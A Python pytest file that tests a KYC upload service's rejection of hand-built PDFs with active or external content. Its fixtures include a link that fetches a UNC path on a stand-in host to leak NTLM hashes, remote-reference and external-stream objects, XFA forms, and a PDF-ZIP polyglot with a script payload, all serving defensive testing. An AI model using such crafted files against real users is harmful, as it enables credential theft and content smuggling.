"""PDFs written by hand, byte by byte, through the real API: nothing in one may reach for
another file, and what is stored is what was inspected."""

import io
import zipfile

import pytest
from pypdf import PdfReader

from kyc.models import KycDocument
from kyc.tests import files
from kyc.tests.helpers import stored_files, upload

# A link whose article-thread action fetches a file over SMB: opening it sends the viewer's
# NTLM hash to the host.
UNC_THREAD_LINK = files.one_page_pdf(
    b"/Annots [4 0 R]",
    rb"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10]"
    rb" /A << /S /Thread /D 0 /F << /Type /Filespec /F (\\\\host.invalid\\share\\x.pdf) >> >> >>",
)
# A form XObject that stands in for a page of another, remote, PDF.
REFERENCE_XOBJECT = files.one_page_pdf(
    b"/Resources << /XObject << /X0 4 0 R >> >> /Contents 5 0 R",
    files.raw_stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 10 10]"
        b" /Ref << /F << /FS /URL /F (https://host.invalid/x.pdf) >> /Page 0 >>",
        b"",
    ),
    files.raw_stream(b"", b"/X0 Do"),
)
# A content stream whose bytes live in an external file.
EXTERNAL_STREAM = files.one_page_pdf(
    b"/Contents 4 0 R", files.raw_stream(b"/F (https://host.invalid/content.bin)", b"")
)
ANNOTATION_3D = files.one_page_pdf(
    b"/Annots [4 0 R]",
    b"<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] /3DD 5 0 R >>",
    files.raw_stream(b"/Type /3D /Subtype /U3D", b"U3D"),
)
RICH_MEDIA = files.one_page_pdf(
    b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
)
# A page that acts by itself when it is opened (an additional action): here only turning
# the page, which names nothing else the inspection refuses.
PAGE_OPEN_ACTION = files.one_page_pdf(b"/AA << /O 4 0 R >>", b"<< /S /Named /N /NextPage >>")
# An XFA form: inside an /AcroForm, as viewers read it, and alone, which only its name gives away.
XFA_FORM = files.raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    files.raw_stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
)
XFA_ALONE = files.one_page_pdf(
    b"/XFA 4 0 R", files.raw_stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
)
PLAIN = files.one_page_pdf(b"/Contents 4 0 R", files.raw_stream(b"", b"0 0 m 100 100 l S"))


def a_zip() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return output.getvalue()


def test_a_pdf_written_by_hand_is_accepted(customer_client):
    response = upload(customer_client, PLAIN, "proof_of_address")
    assert response.status_code == 201, response.json()
    assert response.json()["content_type"] == "application/pdf"


@pytest.mark.parametrize(
    "data",
    [UNC_THREAD_LINK, REFERENCE_XOBJECT, EXTERNAL_STREAM, ANNOTATION_3D, RICH_MEDIA],
    ids=["unc-thread-link", "reference-xobject", "external-stream", "3d-annotation", "rich-media"],
)
def test_a_pdf_reaching_for_another_file_is_refused_and_nothing_is_stored(customer_client, kyc_storage, data):
    assert len(PdfReader(io.BytesIO(data), strict=True).pages) == 1
    response = upload(customer_client, data, "proof_of_address")
    assert response.status_code == 422, response.json()
    assert response.json()["code"] == "file_active_content"
    assert stored_files(kyc_storage) == []
    assert not KycDocument.objects.exists()


@pytest.mark.parametrize(
    "data",
    [PAGE_OPEN_ACTION, XFA_FORM, XFA_ALONE, RICH_MEDIA],
    ids=["additional-action", "xfa-form", "xfa-alone", "rich-media"],
)
def test_a_pdf_acting_by_itself_is_refused_and_nothing_is_stored(customer_client, kyc_storage, data):
    assert len(PdfReader(io.BytesIO(data), strict=True).pages) == 1
    response = upload(customer_client, data, "proof_of_address")
    assert response.status_code == 422, response.json()
    assert response.json()["code"] == "file_active_content"
    assert stored_files(kyc_storage) == []
    assert not KycDocument.objects.exists()


def test_a_zip_appended_to_a_pdf_is_not_kept(customer_client):
    data = PLAIN + a_zip()
    assert zipfile.is_zipfile(io.BytesIO(data))
    response = upload(customer_client, data, "proof_of_address")
    assert response.status_code == 201, response.json()
    served = customer_client.get(f"/api/kyc/documents/{response.json()['id']}/file").content
    assert b"PK\x03\x04" not in served
    assert not zipfile.is_zipfile(io.BytesIO(served))
    assert len(PdfReader(io.BytesIO(served), strict=True).pages) == 1
    assert served.rstrip().endswith(b"%%EOF")


def test_objects_no_page_uses_are_not_kept(customer_client):
    orphan = b"<< /Note (kept out of sight) >>"
    data = files.one_page_pdf(b"", orphan)
    response = upload(customer_client, data, "proof_of_address")
    served = customer_client.get(f"/api/kyc/documents/{response.json()['id']}/file").content
    assert b"kept out of sight" not in served
